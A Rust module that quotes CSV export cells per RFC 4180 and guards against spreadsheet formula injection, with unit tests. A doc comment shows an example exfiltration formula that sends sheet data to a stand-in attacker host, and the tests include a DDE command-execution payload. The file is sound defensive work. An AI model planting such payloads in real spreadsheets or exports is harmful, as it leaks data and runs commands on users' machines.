//! CSV encoding of exported cells: RFC 4180 quoting, plus the OWASP defence against formula injection.
//!
//! Everything in an export came from a visitor's browser (titles, pages, props), and spreadsheets run a cell
//! that starts with `=`, `+`, `-` or `@` (or TAB / CR, which some strip first, or their full-width forms) as a
//! formula — a page titled `=HYPERLINK("https://evil.example/?"&A1)` would leak the sheet when the owner opens
//! the export. Such a start gets a `'`, which spreadsheets read as "this is text" (OWASP, CSV Injection).
//!
//! A cell is not only split where Footfall puts commas: spreadsheets set to `;` or TAB split there too, so
//! `Pricing;=1+1` became a formula cell. Hence a cell holding any separator (`,` `;` TAB CR LF) is quoted, so
//! every quote-aware reader keeps it whole, and a formula start right after a separator (spaces between
//! allowed) gets its `'` too, for readers that split without looking at quotes. Numbers written by Footfall
//! itself (`engaged_ms`, …) are not text and are written as they are.

/// A cell starting with one of these is read as a formula by some spreadsheet.
const FORMULA_START: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
/// Where some spreadsheet starts a new cell (or line).
const SEPARATORS: [char; 5] = [',', ';', '\t', '\r', '\n'];

/// Appends one text cell to `out`: every formula start neutralised (at the start and after each separator),
/// quoted when it contains a separator or a quote (quotes doubled).
pub fn push_text(out: &mut String, value: &str) {
    let quote = value.contains(SEPARATORS) || value.contains('"');
    if quote {
        out.push('"');
    }
    // At the start of the cell, or after a separator and any spaces: where a spreadsheet may see a new cell.
    let mut cell_start = true;
    for c in value.chars() {
        if cell_start && FORMULA_START.contains(&c) {
            out.push('\'');
        }
        if c == '"' {
            out.push('"');
        }
        out.push(c);
        cell_start = SEPARATORS.contains(&c) || (cell_start && c == ' ');
    }
    if quote {
        out.push('"');
    }
}

/// One text cell as a string (for tests and headers).
pub fn text(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    push_text(&mut out, value);
    out
}

/// Records end with CRLF (RFC 4180).
pub const LINE_END: &str = "\r\n";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_unchanged() {
        assert_eq!(text("Home"), "Home");
        assert_eq!(text(""), "");
        assert_eq!(text("/blog/post-1"), "/blog/post-1");
        assert_eq!(text("a-b=c"), "a-b=c", "only the first character matters");
        assert_eq!(text("Ünïcödé 日本"), "Ünïcödé 日本");
    }

    #[test]
    fn formula_starts_get_a_leading_apostrophe() {
        assert_eq!(text("+1"), "'+1");
        assert_eq!(text("-1"), "'-1");
        assert_eq!(text("@x"), "'@x");
        assert_eq!(text("=1+2"), "'=1+2");
        assert_eq!(text("\tcmd"), "\"'\tcmd\"");
        assert_eq!(text("=HYPERLINK(\"http://x\")"), "\"'=HYPERLINK(\"\"http://x\"\")\"");
    }

    #[test]
    fn separators_quotes_and_line_breaks_are_quoted() {
        assert_eq!(text("a,b"), "\"a,b\"");
        assert_eq!(text("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(text("one\ntwo"), "\"one\ntwo\"");
        assert_eq!(text("a, \"b\"\nc"), "\"a, \"\"b\"\"\nc\"");
        assert_eq!(text("\"quoted\""), "\"\"\"quoted\"\"\"");
    }

    #[test]
    fn a_formula_after_any_separator_is_guarded_and_the_cell_quoted() {
        assert_eq!(text("Pricing;=1+1;=cmd|' /C calc'!A0"), "\"Pricing;'=1+1;'=cmd|' /C calc'!A0\"");
        assert_eq!(text("Pricing\t=1+1"), "\"Pricing\t'=1+1\"");
        assert_eq!(text("a, @SUM(A1)"), "\"a, '@SUM(A1)\"");
        assert_eq!(text("one\n+1"), "\"one\n'+1\"");
        assert_eq!(text("a;b"), "\"a;b\"", "a separator alone is quoted, not altered");
        assert_eq!(text("\u{FF1D}1+1"), "'\u{FF1D}1+1", "full-width equals");
    }

    /// What a spreadsheet splitting on `;` or TAB, quote-aware or not, would make of the cell.
    fn cells_split_on(encoded: &str, separator: char) -> Vec<String> {
        encoded.split(separator).map(|cell| cell.trim_start_matches([' ', '"']).to_owned()).collect()
    }

    #[test]
    fn no_split_of_an_encoded_cell_starts_with_a_formula() {
        let hostile = [
            "Pricing;=1+1;=cmd|' /C calc'!A0",
            "x\t-2+3\t+cmd",
            "a;  @x",
            "a,=b;+c\t-d\r=e\n@f",
            "=HYPERLINK(\"http://x\")",
        ];
        for value in hostile {
            let encoded = text(value);
            for separator in [',', ';', '\t', '\n', '\r'] {
                for cell in cells_split_on(&encoded, separator) {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@']),
                        "{value:?} encoded as {encoded:?} gives the cell {cell:?} split on {separator:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn a_carriage_return_start_is_both_guarded_and_quoted() {
        assert_eq!(text("\r=1"), "\"'\r'=1\"");
        assert_eq!(text("-1,2"), "\"'-1,2\"");
    }
}
